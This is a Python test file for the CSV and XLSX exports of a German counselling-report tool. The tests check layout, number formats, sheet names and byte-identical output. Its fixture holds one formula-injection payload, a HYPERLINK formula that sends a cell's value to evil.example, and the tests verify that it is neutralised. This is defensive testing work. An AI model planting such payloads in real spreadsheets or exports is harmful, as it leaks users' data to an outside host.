"""CSV and XLSX renderings of a report's figures (no database needed)."""

import copy
import csv
import io
import time
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from reports.document import LEGEND, SMALL, SUPPRESSED
from reports.exports import sheet_title, to_csv, to_xlsx

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'
LONG_TITLE = "Beratungen nach Themen/Anliegen und Zielgruppen im Zeitraum"


@pytest.fixture
def figures():
    return {
        "version": 1,
        "meta": {
            "scope": "mo",
            "scope_label": "Fachstelle MO",
            "units": [
                {"code": "mo", "name": "Fachstelle MO", "short_name": "MO", "colour": "orange", "host": "Träger"}
            ],
            "period": {"kind": "year", "first": "2025-01-01", "last": "2025-12-31", "label": "Jahr 2025"},
            "previous": {"first": "2024-01-01", "last": "2024-12-31", "label": "Jahr 2024"},
            "generated_at": "2026-11-24T23:10:00+01:00",
            "generated_by": "Thomas Becker",
        },
        "totals": [
            {"key": "consultations", "label": "Beratungen", "value": 1200, "previous": 980, "change": 22},
            {"key": "hours", "label": "Stunden", "value": 310.5, "previous": 0, "change": None},
            {"key": "organisations", "label": "Organisationen", "value": 40, "previous": 50, "change": -20},
        ],
        "sections": [
            {
                "key": "consultations",
                "title": "Beratungen",
                "tables": [
                    {
                        "key": "by_format",
                        "title": "Beratungen nach Format",
                        "columns": ["Format", "Beratungen", "Stunden"],
                        "rows": [["vor Ort", 1012, 30.5], ["telefonisch", SMALL, SUPPRESSED], ["online", 5, None]],
                        "total": ["Summe", 1019, 33.0],
                        "note": "Stunden auf eine Nachkommastelle gerundet.",
                        "chart": {
                            "kind": "bars",
                            "categories": ["Jan", "Feb"],
                            "series": [{"label": "2025", "values": [3, 4], "colour": "orange"}],
                        },
                    },
                    {
                        "key": "by_month",
                        "title": "Beratungen nach Monat",
                        "columns": ["Monat", "Beratungen"],
                        "rows": [["Januar", 7], ["Februar", 9]],
                        "total": None,
                        "note": "",
                        "chart": None,
                    },
                ],
            },
            {
                "key": "topics",
                "title": LONG_TITLE,
                "tables": [
                    {
                        "key": "by_topic",
                        "title": "Anliegen",
                        "columns": ["Anliegen", "Anzahl"],
                        "rows": [[INJECTION, 4], ["-Minus am Anfang", 6]],
                        "total": None,
                        "note": "",
                        "chart": None,
                    }
                ],
            },
        ],
        "named_organisations": ["Verein A e. V.", "@Initiative B"],
    }


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# --------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------


def test_csv_encoding_and_line_ends(figures):
    data = to_csv(figures)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert "Veränderung in %".encode() in data


def test_csv_layout(figures):
    rows = csv_rows(to_csv(figures))
    assert rows == [
        ["Bericht", "Förderbericht"],
        ["Bereich", "Fachstelle MO"],
        ["Zeitraum", "Jahr 2025 (01.01.2025–31.12.2025)"],
        ["Vergleichszeitraum", "Jahr 2024 (01.01.2024–31.12.2024)"],
        ["erzeugt am", "24.11.2026 23:10"],
        ["erzeugt von", "Thomas Becker"],
        [],
        ["Kennzahl", "Wert", "Vorzeitraum", "Veränderung in %"],
        ["Beratungen", "1200", "980", "22"],
        ["Stunden", "310,5", "0", ""],
        ["Organisationen", "40", "50", "-20"],
        [],
        ["Beratungen", "Beratungen nach Format"],
        ["Format", "Beratungen", "Stunden"],
        ["vor Ort", "1012", "30,5"],
        ["telefonisch", "< 3", "x"],
        ["online", "5", ""],
        ["Summe", "1019", "33,0"],
        ["Stunden auf eine Nachkommastelle gerundet."],
        [],
        ["Beratungen", "Beratungen nach Monat"],
        ["Monat", "Beratungen"],
        ["Januar", "7"],
        ["Februar", "9"],
        [],
        [LONG_TITLE, "Anliegen"],
        ["Anliegen", "Anzahl"],
        ["'" + INJECTION, "4"],
        ["'-Minus am Anfang", "6"],
        [],
        ["Zeichenerklärung"],
        ["< 3", LEGEND[SMALL]],
        ["x", LEGEND[SUPPRESSED]],
        [],
        ["Genannte Organisationen (mit Einverständnis)"],
        ["Verein A e. V."],
        ["'@Initiative B"],
    ]


def test_csv_quotes_cells_with_delimiter(figures):
    figures["named_organisations"] = ['Verein "Mit; Semikolon" e. V.']
    data = to_csv(figures).decode("utf-8-sig")
    assert '"Verein ""Mit; Semikolon"" e. V."\r\n' in data
    assert csv_rows(to_csv(figures))[-1] == ['Verein "Mit; Semikolon" e. V.']


def test_csv_legend_only_for_markers_that_occur(figures):
    table = figures["sections"][0]["tables"][0]
    table["rows"][1] = ["telefonisch", SMALL, 2.0]
    figures["named_organisations"] = []
    rows = csv_rows(to_csv(figures))
    assert ["< 3", LEGEND[SMALL]] in rows
    assert ["x", LEGEND[SUPPRESSED]] not in rows
    assert ["Genannte Organisationen (mit Einverständnis)"] not in rows

    table["rows"][1] = ["telefonisch", 1, 2.0]
    rows = csv_rows(to_csv(figures))
    assert ["Zeichenerklärung"] not in rows
    assert rows[-1] == ["'-Minus am Anfang", "6"]


def test_csv_without_previous_period(figures):
    figures["meta"]["previous"] = None
    assert ["Vergleichszeitraum", ""] in csv_rows(to_csv(figures))


def test_csv_is_deterministic(figures):
    assert to_csv(figures) == to_csv(copy.deepcopy(figures))


# --------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------


def load(figures):
    return load_workbook(io.BytesIO(to_xlsx(figures)))


def values(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def test_xlsx_sheet_names(figures):
    workbook = load(figures)
    assert workbook.sheetnames == ["Übersicht", "Beratungen", "Beratungen nach Themen-Anliegen", "Hinweise"]
    assert all(len(name) <= 31 for name in workbook.sheetnames)


def test_sheet_title_sanitising():
    taken = set()
    assert sheet_title("A/B\\C[D]E:F*G?H", taken) == "A-B-C-D-E-F-G-H"
    assert sheet_title(LONG_TITLE, taken) == LONG_TITLE[:31].replace("/", "-")
    assert sheet_title(LONG_TITLE, taken) == "Beratungen nach Themen-Anli (2)"
    assert sheet_title(LONG_TITLE.upper(), taken) == "BERATUNGEN NACH THEMEN-ANLI (3)"
    assert sheet_title("'Zitat'", taken) == "Zitat"
    assert sheet_title("", taken) == "Tabelle"
    assert all(len(name) <= 31 for name in taken)


def test_xlsx_sections_with_clashing_names_stay_unique(figures):
    figures["sections"].append(copy.deepcopy(figures["sections"][0]))
    figures["sections"].append({**copy.deepcopy(figures["sections"][0]), "title": "Hinweise"})
    workbook = load(figures)
    assert workbook.sheetnames == [
        "Übersicht",
        "Beratungen",
        "Beratungen nach Themen-Anliegen",
        "Beratungen (2)",
        "Hinweise (2)",
        "Hinweise",
    ]


def test_xlsx_overview(figures):
    ws = load(figures)["Übersicht"]
    assert values(ws) == [
        ["Bericht", "Förderbericht", None, None],
        ["Bereich", "Fachstelle MO", None, None],
        ["Zeitraum", "Jahr 2025 (01.01.2025–31.12.2025)", None, None],
        ["Vergleichszeitraum", "Jahr 2024 (01.01.2024–31.12.2024)", None, None],
        ["erzeugt am", datetime(2026, 11, 24, 23, 10), None, None],
        ["erzeugt von", "Thomas Becker", None, None],
        [None, None, None, None],
        ["Kennzahl", "Wert", "Vorzeitraum", "Veränderung in %"],
        ["Beratungen", 1200, 980, 0.22],
        ["Stunden", 310.5, 0, None],
        ["Organisationen", 40, 50, -0.2],
    ]
    assert ws["B5"].number_format == "DD.MM.YYYY HH:MM"
    assert ws["B9"].number_format == "#,##0"
    assert ws["B10"].number_format == "#,##0.0"
    assert ws["D9"].number_format.startswith("+0%")
    assert ws["A8"].font.b and ws["D8"].font.b
    assert ws["A1"].font.b


def test_xlsx_section_sheet(figures):
    ws = load(figures)["Beratungen"]
    assert values(ws) == [
        ["Beratungen nach Format", None, None],
        ["Format", "Beratungen", "Stunden"],
        ["vor Ort", 1012, 30.5],
        ["telefonisch", "< 3", "x"],
        ["online", 5, None],
        ["Summe", 1019, 33.0],
        ["Stunden auf eine Nachkommastelle gerundet.", None, None],
        [None, None, None],
        ["Beratungen nach Monat", None, None],
        ["Monat", "Beratungen", None],
        ["Januar", 7, None],
        ["Februar", 9, None],
    ]
    assert type(ws["B3"].value) is int and type(ws["C3"].value) is float
    # XLSX stores 33.0 as "33", which openpyxl reads back as int; the format keeps the decimal.
    assert ws["C6"].value == 33 and ws["C6"].number_format == "#,##0.0"
    assert ws["B3"].number_format == "#,##0"
    assert ws["C3"].number_format == "#,##0.0"
    assert ws["B4"].data_type == "s" and ws["B4"].alignment.horizontal == "right"
    assert ws["C4"].data_type == "s" and ws["C4"].alignment.horizontal == "right"
    assert ws["A4"].alignment.horizontal is None  # labels stay left
    assert ws["A1"].font.b and ws["A9"].font.b  # table titles
    assert all(ws.cell(2, column).font.b for column in (1, 2, 3))  # header
    assert all(ws.cell(6, column).font.b for column in (1, 2, 3))  # total
    assert not ws["A3"].font.b
    assert ws["A7"].font.i  # note
    # Column widths follow the content, not the overflowing title/note in column A.
    assert ws.column_dimensions["A"].width == len("telefonisch") + 2
    assert ws.column_dimensions["B"].width == len("Beratungen") + 2


def test_xlsx_keeps_injection_text_as_string(figures):
    workbook = load(figures)
    ws = workbook["Beratungen nach Themen-Anliegen"]
    assert ws["A3"].value == INJECTION
    assert ws["A3"].data_type == "s"
    assert ws["A3"].quotePrefix
    assert ws["A4"].value == "-Minus am Anfang"
    assert workbook["Hinweise"]["A7"].value == "@Initiative B"
    formulas = [
        cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []


def test_xlsx_has_no_formula_in_the_file(figures):
    with zipfile.ZipFile(io.BytesIO(to_xlsx(figures))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_xlsx_notes_sheet(figures):
    ws = load(figures)["Hinweise"]
    assert values(ws) == [
        ["Zeichenerklärung", None],
        ["< 3", LEGEND[SMALL]],
        ["x", LEGEND[SUPPRESSED]],
        [None, None],
        ["Genannte Organisationen (mit Einverständnis)", None],
        ["Verein A e. V.", None],
        ["@Initiative B", None],
    ]
    assert ws["A1"].font.b and ws["A5"].font.b


def test_xlsx_properties(figures):
    properties = load(figures).properties
    assert properties.creator == "Vielfalt-Beratung"
    assert properties.created == datetime(2026, 11, 24, 22, 10)  # UTC
    assert properties.modified == datetime(2026, 11, 24, 22, 10)


def test_xlsx_is_byte_identical(figures, monkeypatch):
    first = to_xlsx(figures)
    # A different wall clock must not leak into the file (zip entry dates, document properties).
    real_time = time.time
    monkeypatch.setattr(time, "time", lambda: real_time() + 86_400 * 400 + 3)
    second = to_xlsx(copy.deepcopy(figures))
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2026, 11, 24, 23, 10, 0)}


def test_xlsx_differs_when_figures_differ(figures):
    before = to_xlsx(figures)
    figures["totals"][0]["value"] = 1201
    assert to_xlsx(figures) != before


def test_variant_stand_and_notes_in_both_files(figures):
    figures["meta"] |= {"variant": "publication", "variant_label": "zur Veröffentlichung", "as_of": "2026-11-28"}
    figures["notes"] = ["Stand: 28.11.2026. Noch nicht abgeschlossen.", "Stunden: größte Reste."]
    rows = csv_rows(to_csv(figures))
    assert rows[0] == ["Bericht", "Förderbericht (zur Veröffentlichung)"]
    assert ["Stand", "28.11.2026"] in rows and ["Fassung", "zur Veröffentlichung"] in rows
    notes_at = rows.index(["Hinweise"])
    assert rows[notes_at + 1 : notes_at + 3] == [
        ["Stand: 28.11.2026. Noch nicht abgeschlossen."],
        ["Stunden: größte Reste."],
    ]
    workbook = load(figures)
    assert ["Hinweise", None] in values(workbook["Hinweise"])
    assert ["Stunden: größte Reste.", None] in values(workbook["Hinweise"])
    assert workbook.properties.title == "Förderbericht (zur Veröffentlichung) Fachstelle MO"
